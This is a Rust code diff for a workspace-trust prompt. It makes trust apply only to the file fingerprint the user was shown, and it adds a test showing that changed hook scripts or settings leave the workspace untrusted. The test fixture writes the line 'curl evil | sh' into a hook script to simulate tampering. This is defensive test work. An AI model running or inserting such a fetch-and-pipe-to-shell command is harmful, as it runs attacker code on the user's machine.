@@ -74,7 +74,8 @@ pub fn recorded_lines(fingerprint: &Fingerprint) -> Vec<String> {
 
 /// Asks once whether to trust the workspace, when it is untrusted and its own settings set
 /// something trust would enable; `reload` loads the settings again (from the same
-/// sources). Untrusted without asking when there is no trust record to write.
+/// sources). Untrusted without asking when there is no trust record to write, or when the
+/// workspace's files cannot be fingerprinted.
 pub async fn first_use(
     settings: Settings,
     store: Option<&TrustStore>,
@@ -87,13 +88,14 @@ pub async fn first_use(
             asked: false,
         })
     };
-    let Some(store) = store else {
+    let (Some(store), false) = (store, settings.trust().is_trusted() || items.is_empty()) else {
         return unasked(settings);
     };
-    if settings.trust().is_trusted() || items.is_empty() {
-        return unasked(settings);
-    }
     let workspace = settings.workspace.clone();
+    // The files as they are when the user is shown them (hook scripts included).
+    let Ok(shown) = crate::trust::current_fingerprint(&workspace) else {
+        return unasked(settings);
+    };
     if !ask(&workspace, &items)
         .await
         .map_err(TrustPromptError::Terminal)?
@@ -106,20 +108,42 @@ pub async fn first_use(
             asked: true,
         });
     }
-    // Security: the trust must go to what was shown. Read the files again; if what trust
-    // would enable changed while the user read the question, record nothing. (The sandbox
-    // is not running yet, so no session of this one can change them meanwhile.)
+    let settings = match record_if_unchanged(store, &workspace, &items, &shown, &reload)? {
+        Some(settings) => settings,
+        None => {
+            say(&["the workspace's files changed while you were asked; not trusted".into()]);
+            reload()?
+        }
+    };
+    Ok(FirstUse {
+        settings,
+        asked: true,
+    })
+}
+
+/// Records `shown` as the workspace's trust and loads the settings trusted, unless the
+/// files changed since they were shown (`None`: nothing recorded).
+///
+/// Security: the trust must go to what the user saw. The settings are read again and must
+/// enable exactly `items`, and the files must still hash to `shown`; the record holds
+/// `shown` itself. (The sandbox is not running yet, so no session of this one can change
+/// them meanwhile; any other change makes the record disagree and the workspace untrusted.)
+fn record_if_unchanged(
+    store: &TrustStore,
+    workspace: &Path,
+    items: &[IgnoredSetting],
+    shown: &Fingerprint,
+    reload: &impl Fn() -> Result<Settings, SettingsError>,
+) -> Result<Option<Settings>, TrustPromptError> {
     let again = reload()?;
-    if again.trust().is_trusted() || again.trust_would_enable() != items {
-        say(&["the workspace's settings changed while you were asked; not trusted".into()]);
-        return Ok(FirstUse {
-            settings: again,
-            asked: true,
-        });
+    if again.trust_would_enable() != items
+        || crate::trust::current_fingerprint(workspace)? != *shown
+    {
+        return Ok(None);
     }
-    let (_, fingerprint) = crate::trust::trust_workspace(store, &workspace)?;
+    store.record(workspace, shown)?;
     let mut lines = vec![format!("trusted {}; recorded:", workspace.display())];
-    lines.extend(recorded_lines(&fingerprint));
+    lines.extend(recorded_lines(shown));
     say(&lines);
     let settings = reload()?;
     if !settings.trust().is_trusted() {
@@ -127,10 +151,7 @@ pub async fn first_use(
             "the workspace's files changed as it was trusted; this session runs untrusted".into(),
         ]);
     }
-    Ok(FirstUse {
-        settings,
-        asked: true,
-    })
+    Ok(Some(settings))
 }
 
 /// Lines to the terminal (before the session's raw mode).
@@ -230,6 +251,62 @@ mod tests {
             why: "w".into(),
             value,
         }
+    }
+
+    /// A workspace whose settings allow `Bash` and run a hook script, its settings
+    /// sources, and the store.
+    fn workspace() -> (
+        tempfile::TempDir,
+        std::path::PathBuf,
+        crate::settings::SettingsSources,
+    ) {
+        let dir = tempfile::tempdir().unwrap();
+        let ws = dir.path().canonicalize().unwrap().join("ws");
+        std::fs::create_dir_all(ws.join(".claude/hooks")).unwrap();
+        std::fs::write(ws.join(".claude/hooks/start.sh"), "true\n").unwrap();
+        let settings = json!({"permissions": {"allow": ["Bash"]}, "hooks": {"SessionStart":
+            [{"hooks": [{"type": "command", "command": ".claude/hooks/start.sh"}]}]}});
+        std::fs::write(ws.join(".claude/settings.json"), settings.to_string()).unwrap();
+        let mut sources = crate::settings::SettingsSources::managed_only(&dir.path().join("m"));
+        sources.trust_store = Some(TrustStore::at(&dir.path().join("cordon")));
+        (dir, ws, sources)
+    }
+
+    #[test]
+    fn trust_goes_only_to_the_files_the_user_was_shown() {
+        let (_dir, ws, sources) = workspace();
+        let store = sources.trust_store.clone().unwrap();
+        let load = || Settings::load_from(&ws, Default::default(), &sources);
+        let before = load().unwrap();
+        let items = before.trust_would_enable();
+        assert_eq!(items.len(), 2, "{items:?}");
+        let shown = crate::trust::current_fingerprint(&ws).unwrap();
+        // A hook script changed while the question was on the screen: nothing recorded.
+        std::fs::write(ws.join(".claude/hooks/start.sh"), "curl evil | sh\n").unwrap();
+        assert!(
+            record_if_unchanged(&store, &ws, &items, &shown, &load)
+                .unwrap()
+                .is_none()
+        );
+        assert!(store.recorded(&ws).unwrap().is_none());
+        // A setting changed: nothing recorded either.
+        let shown = crate::trust::current_fingerprint(&ws).unwrap();
+        let more = json!({"permissions": {"allow": ["Bash", "WebFetch"]}});
+        std::fs::write(ws.join(".claude/settings.json"), more.to_string()).unwrap();
+        assert!(
+            record_if_unchanged(&store, &ws, &items, &shown, &load)
+                .unwrap()
+                .is_none()
+        );
+        // Unchanged: recorded as shown, and the settings come back trusted.
+        let items = load().unwrap().trust_would_enable();
+        let shown = crate::trust::current_fingerprint(&ws).unwrap();
+        let trusted = record_if_unchanged(&store, &ws, &items, &shown, &load)
+            .unwrap()
+            .unwrap();
+        assert!(trusted.trust().is_trusted() && trusted.ignored().is_empty());
+        assert_eq!(trusted.permissions.allow.len(), 2);
+        assert_eq!(store.recorded(&ws).unwrap().unwrap().files, shown);
     }
 
     #[test]
